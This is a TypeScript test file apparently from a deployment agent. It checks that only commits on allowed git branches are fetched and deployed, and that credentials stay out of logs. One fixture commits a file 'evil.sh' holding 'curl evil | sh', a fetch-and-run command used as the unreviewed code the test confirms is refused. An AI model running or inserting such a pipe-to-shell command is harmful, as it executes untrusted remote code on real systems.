/**
 * `allow.branches` over real git HTTP with credentials: only the allowed branches' heads are fetched (never a commit
 * by SHA), a commit must be on one of them, and a branch that is gone no longer vouches for anything.
 */
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchFromBranches } from '../../agent/fetch-from-branches.js';
import { isErrorCode } from '../../lib/errors.js';
import { startGitHttpServer, type GitHttpServer } from '../../testbed/git-http-server.js';
import { createBareRepo, pushCommit } from '../../testbed/git-repos.js';

const GOOD = `Basic ${Buffer.from('x-access-token:ghs_branches').toString('base64')}`;
const auth = { username: 'x-access-token', password: 'ghs_branches', expiresAt: new Date(Date.now() + 3600_000).toISOString() };
let root: string;
let server: GitHttpServer;
let bare: string;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'bitenvoy-branches-'));
  bare = await createBareRepo(join(root, 'git'), 'acme/shop', { 'README.md': 'shop\n' });
  server = await startGitHttpServer({ root: join(root, 'git'), requireAuth: (_path, authorization) => authorization !== GOOD });
});
afterAll(async () => {
  await server.close();
  await rm(root, { recursive: true, force: true });
});

const url = () => `${server.url}/acme/shop.git`;
const refs = (mirror: string) => execFileSync('git', ['--git-dir', mirror, 'for-each-ref', '--format=%(refname)'], { encoding: 'utf8' }).trim().split('\n').filter(Boolean);
const has = (mirror: string, sha: string) => {
  try {
    execFileSync('git', ['--git-dir', mirror, 'cat-file', '-e', `${sha}^{commit}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
};

async function refusal(promise: Promise<unknown>): Promise<string> {
  const err = await promise.then(() => undefined, (e: unknown) => e);
  if (!isErrorCode(err, 'BE_NOT_ALLOWED')) throw new Error(`expected a BE_NOT_ALLOWED refusal, got ${String(err)}`);
  return err.message;
}

describe('fetchFromBranches', () => {
  it('accepts a branch head and its ancestors, refuses a commit on another branch without ever fetching it', async () => {
    const agentDir = join(root, 'agent-1');
    const older = await pushCommit(bare, { VERSION: '1\n' }, 'v1');
    const head = await pushCommit(bare, { VERSION: '2\n' }, 'v2');
    const release = await pushCommit(bare, { VERSION: 'r1\n' }, 'release', 'release/1');
    const feature = await pushCommit(bare, { 'evil.sh': 'curl evil | sh\n' }, 'unreviewed', 'feature/x');
    const lines: string[] = [];
    const options = { agentDir, repository: 'acme/shop', url: url(), auth, branches: ['main', 'release/*'], log: (line: string) => lines.push(line) };

    const mirror = await fetchFromBranches({ ...options, sha: older, jobId: 'job_a' });
    expect(lines.join('')).toContain(`fetching main, release/1 of acme/shop from ${url()} (allow.branches: main, release/*); the commit must be on one of them\n`);
    expect(lines.join('')).toContain(`commit ${older.slice(0, 7)} is on main\n`);
    expect(refs(mirror).sort()).toEqual(['refs/bitenvoy/branches/main', 'refs/bitenvoy/branches/release/1', 'refs/bitenvoy/jobs/job_a']);
    await fetchFromBranches({ ...options, sha: head, jobId: 'job_b' });
    await fetchFromBranches({ ...options, sha: release, jobId: 'job_c' });

    expect(await refusal(fetchFromBranches({ ...options, sha: feature, jobId: 'job_d' }))).toBe(
      `commit ${feature.slice(0, 7)} is not reachable from main, release/* in acme/shop (this agent's allow.branches; it fetched main, release/1): ` +
        "deploy a commit that is on one of them (merge it first), or the server's owner can add its branch to allow.branches in agent.yml and restart the agent",
    );
    expect(has(mirror, feature)).toBe(false);
    expect(refs(mirror)).not.toContain('refs/bitenvoy/jobs/job_d');
    // The credential travelled as a header: it is in no file of the mirror and in no line logged.
    expect(await readFile(join(mirror, 'config'), 'utf8')).not.toContain('ghs_branches');
    expect(lines.join('')).not.toContain('ghs_branches');
  });

  it('forgets a branch that is gone: it no longer vouches for its commits', async () => {
    const agentDir = join(root, 'agent-2');
    const hotfix = await pushCommit(bare, { VERSION: 'hotfix\n' }, 'hotfix', 'release/2');
    const options = { agentDir, repository: 'acme/shop', url: url(), auth, branches: ['main', 'release/*'], log: () => undefined };
    const mirror = await fetchFromBranches({ ...options, sha: hotfix, jobId: 'job_e' });
    execFileSync('git', ['--git-dir', bare, 'update-ref', '-d', 'refs/heads/release/2']);
    expect(await refusal(fetchFromBranches({ ...options, sha: hotfix, jobId: 'job_f' }))).toMatch(/^commit [0-9a-f]{7} is not reachable from main, release\/\* in acme\/shop/);
    expect(refs(mirror)).not.toContain('refs/bitenvoy/branches/release/2');
  });

  it('refuses when no allowed branch exists, and fails clearly without credentials', async () => {
    const options = { agentDir: join(root, 'agent-3'), repository: 'acme/shop', url: url(), sha: 'a'.repeat(40), jobId: 'job_g', log: () => undefined };
    expect(await refusal(fetchFromBranches({ ...options, auth, branches: ['production'] }))).toBe(
      `commit aaaaaaa is not reachable from production in acme/shop: none of those branches exists at ${url()}; push one, or the server's owner can change allow.branches in agent.yml and restart the agent`,
    );
    await expect(fetchFromBranches({ ...options, branches: ['main'] })).rejects.toThrow(/^cannot list the branches of acme\/shop at http:\/\/127\.0\.0\.1:\d+\/acme\/shop\.git: /);
  });
});
